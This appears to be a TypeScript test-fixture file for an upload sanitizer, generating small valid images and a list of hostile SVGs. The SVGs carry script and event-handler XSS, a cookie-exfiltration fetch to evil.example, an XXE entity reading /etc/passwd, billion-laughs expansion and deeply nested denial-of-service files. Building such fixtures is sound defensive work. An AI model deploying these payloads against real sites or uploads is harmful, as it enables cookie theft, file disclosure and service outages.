import { deflateSync } from 'node:zlib';

// Tiny but valid images of every accepted type, made here rather than checked in, and SVGs that try every trick
// an uploaded logo could play. `dangers` lists what must not survive in the stored file (lower-cased match).

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return (crc ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A solid-colour PNG of the given size: big enough to see, small enough to write here. */
export function solidPng(width: number, height: number, [red, green, blue]: [number, number, number]): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  const row = Buffer.concat([
    Buffer.from([0]),
    Buffer.from(Array.from({ length: width }, () => [red, green, blue]).flat()),
  ]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.concat(Array.from({ length: height }, () => row)))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A 1×1 red PNG. */
export function tinyPng(): Buffer {
  return solidPng(1, 1, [255, 0, 0]);
}

/** A PNG of exactly `size` bytes: a valid image followed by padding (readers stop at IEND). */
export function pngOfSize(size: number): Buffer {
  const png = tinyPng();
  return Buffer.concat([png, Buffer.alloc(size - png.length)]);
}

/** A 1×1 GIF. */
export function tinyGif(): Buffer {
  return Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
}

/** A 1×1 baseline JPEG. */
export function tinyJpeg(): Buffer {
  return Buffer.from(
    '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
    'base64',
  );
}

/** A 1×1 lossless WebP. */
export function tinyWebp(): Buffer {
  return Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64');
}

export const benignSvg = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 40" width="100" height="40">
  <defs>
    <linearGradient id="accent"><stop offset="0" stop-color="#8B5CF6"/><stop offset="1" stop-color="#6D28D9"/></linearGradient>
    <symbol id="dot"><circle cx="5" cy="5" r="5"/></symbol>
  </defs>
  <style>.mark { fill: url(#accent); }</style>
  <rect class="mark" x="0" y="0" width="40" height="40" rx="8"/>
  <path d="M50 10 L90 10 L70 30 Z" fill="#111827" style="stroke: #8B5CF6; stroke-width: 2"/>
  <use xlink:href="#dot" x="45" y="30"/>
  <text x="50" y="38" font-size="6">Acme &amp; Co</text>
</svg>
`;

export type HostileSvg = { name: string; svg: string; dangers: string[] };

const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">';
const rect = '<rect width="10" height="10" fill="#8B5CF6"/>';

export const hostileSvgs: HostileSvg[] = [
  {
    name: 'script element',
    svg: `${open}${rect}<script>alert(document.cookie)</script></svg>`,
    dangers: ['<script', 'alert'],
  },
  {
    name: 'script in CDATA with xlink namespace',
    svg: `${open}<script type="application/ecmascript"><![CDATA[fetch('https://evil.example/'+document.cookie)]]></script>${rect}</svg>`,
    dangers: ['<script', 'fetch(', 'evil.example'],
  },
  {
    name: 'onload on the root',
    svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" viewBox="0 0 10 10"><rect width="1" height="1"/></svg>',
    dangers: ['onload', 'alert'],
  },
  {
    name: 'onclick and onmouseover on nested elements',
    svg: `${open}<g onclick="alert(1)"><g><rect width="1" height="1" onmouseover="alert(2)" onfocusin="alert(3)"/></g></g></svg>`,
    dangers: ['onclick', 'onmouseover', 'onfocusin', 'alert'],
  },
  {
    name: 'foreignObject with HTML',
    svg: `${open}${rect}<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/><form action="https://evil.example"><input name="p"/></form></body></foreignObject></svg>`,
    dangers: ['foreignobject', 'onerror', '<img', '<form', 'evil.example'],
  },
  {
    name: 'javascript: link',
    svg: `${open}<a href="javascript:alert(1)">${rect}</a><a xlink:href="javascript:alert(2)"><circle r="1"/></a></svg>`,
    dangers: ['javascript:', 'alert'],
  },
  {
    name: 'xlink:href to an external file',
    svg: `${open}<a xlink:href="https://evil.example/phish">${rect}</a></svg>`,
    dangers: ['evil.example'],
  },
  {
    name: 'use of an external file',
    svg: `${open}${rect}<use href="http://evil.example/sprite.svg#icon"/><use xlink:href="https://evil.example/x.svg#a"/></svg>`,
    dangers: ['evil.example'],
  },
  {
    name: 'external image',
    svg: `${open}${rect}<image href="https://evil.example/track.png" width="1" height="1"/><feImage xlink:href="https://evil.example/f.png"/></svg>`,
    dangers: ['evil.example'],
  },
  {
    name: 'CSS @import and external url() in a style element',
    svg: `${open}<style>@import url(https://evil.example/a.css); @import "https://evil.example/b.css"; rect { fill: url(https://evil.example/c.svg#p); background: url('//evil.example/d.png') }</style>${rect}</svg>`,
    dangers: ['evil.example', '@import'],
  },
  {
    name: 'external url() in style and presentation attributes',
    svg: `${open}<rect width="1" height="1" style="fill: url(http://evil.example/p.svg#x)" filter="url(https://evil.example/f.svg#f)" mask="url('https://evil.example/m')"/>${rect}</svg>`,
    dangers: ['evil.example'],
  },
  {
    name: 'billion laughs (entities in a DOCTYPE)',
    svg: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>${open}<text>&lol3;</text></svg>`,
    dangers: ['<!entity', '<!doctype', 'lollol'],
  },
  {
    name: 'external entity (XXE)',
    svg: `<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${open}<text>&xxe;</text></svg>`,
    dangers: ['<!entity', 'passwd', 'root:'],
  },
  {
    name: 'iframe and embed',
    svg: `${open}${rect}<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/><embed src="https://evil.example/x.swf"/><object data="https://evil.example/o"/></svg>`,
    dangers: ['<iframe', '<embed', '<object', 'evil.example'],
  },
  {
    name: 'data: URL with HTML',
    svg: `${open}<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">${rect}</a><image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/></svg>`,
    dangers: ['data:', 'base64', 'alert'],
  },
  {
    name: 'set and animate that turn href into javascript:',
    svg: `${open}<a href="#ok"><set attributeName="href" to="javascript:alert(1)"/><animate attributeName="href" values="javascript:alert(2)"/>${rect}</a><animateTransform attributeName="transform" type="rotate"/></svg>`,
    dangers: ['<set', '<animate', 'javascript:', 'attributename'],
  },
  {
    name: 'mixed-case tags and attributes',
    svg: `${open}<SCRIPT>alert(1)</SCRIPT><Script>alert(2)</Script><rect width="1" height="1" OnLoad="alert(3)" ONCLICK="alert(4)"/><foreignobject><p>x</p></foreignobject>${rect}</svg>`,
    dangers: ['script', 'onload', 'onclick', 'alert', 'foreignobject'],
  },
  {
    name: 'character-encoded javascript: URL',
    svg: `${open}<a href="&#106;avascript:alert(1)">${rect}</a><a xlink:href="java&#x09;script:alert(2)"><circle r="1"/></a><a href=" &#x6A;&#x61;vascript&#58;alert(3)"><circle r="2"/></a></svg>`,
    dangers: ['javascript', 'alert', 'script:'],
  },
  {
    name: 'style with expression() and bindings',
    svg: `${open}<rect width="1" height="1" style="width: expression(alert(1)); -moz-binding: url(https://evil.example/x.xml#b)"/><style>rect { behavior: url(x.htc); color: e\\78pression(alert(2)) }</style>${rect}</svg>`,
    dangers: ['expression', 'binding', 'behavior', 'alert', 'evil.example'],
  },
  {
    name: 'link with target and a base element',
    svg: `${open}<base href="https://evil.example/"/><a href="#top" target="_blank">${rect}</a><a xlink:href="https://evil.example" target="_top" xlink:show="new"><circle r="1"/></a></svg>`,
    dangers: ['<base', 'target', 'evil.example', '_blank'],
  },
  {
    name: 'stylesheet processing instruction and xml:base',
    svg: `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="https://evil.example/s.css"?><svg xmlns="http://www.w3.org/2000/svg" xml:base="https://evil.example/" viewBox="0 0 10 10">${rect}</svg>`,
    dangers: ['xml-stylesheet', 'evil.example', 'xml:base'],
  },
  {
    name: 'HTML-namespaced script and handler elements',
    svg: `${open}<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(2)</handler>${rect}</svg>`,
    dangers: ['script', 'handler', 'alert'],
  },
];

// SVGs that cost the sanitizer far more than their bytes suggest (issue 8): before it was bounded, 10,000 nested
// groups took 73 s and a 4 MiB flat file over 7 minutes of a blocked event loop.

const svgOpen = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">';

/** `count` groups, each inside the previous one, around one rectangle. */
export function nestedGroupsSvg(count: number): string {
  return `${svgOpen}${'<g>'.repeat(count)}<rect width="1" height="1"/>${'</g>'.repeat(count)}</svg>`;
}

/** An SVG whose deepest element (a rectangle) sits at `levels`, the root being level 1. */
export function svgNestedToLevel(levels: number): string {
  return nestedGroupsSvg(levels - 2);
}

/** Flat rectangles, one after another, until the file is at least `bytes` long. */
export function flatSvgOfSize(bytes: number): string {
  const shape = '<rect x="1" y="1" width="8" height="8" fill="#8B5CF6"/>';
  const count = Math.ceil((bytes - svgOpen.length - '</svg>'.length) / shape.length);
  return `${svgOpen}${shape.repeat(count)}</svg>`;
}

/** Exactly `count` elements, the root included. */
export function svgWithElements(count: number): string {
  return `${svgOpen}${'<rect width="1" height="1"/>'.repeat(count - 1)}</svg>`;
}

/** The costliest kind of file the limits let through: thousands of elements the sanitizer must remove one by one. */
export function costlyAllowedSvg(): string {
  return `${svgOpen}${'<script/>'.repeat(3000)}<rect width="1" height="1"/></svg>`;
}
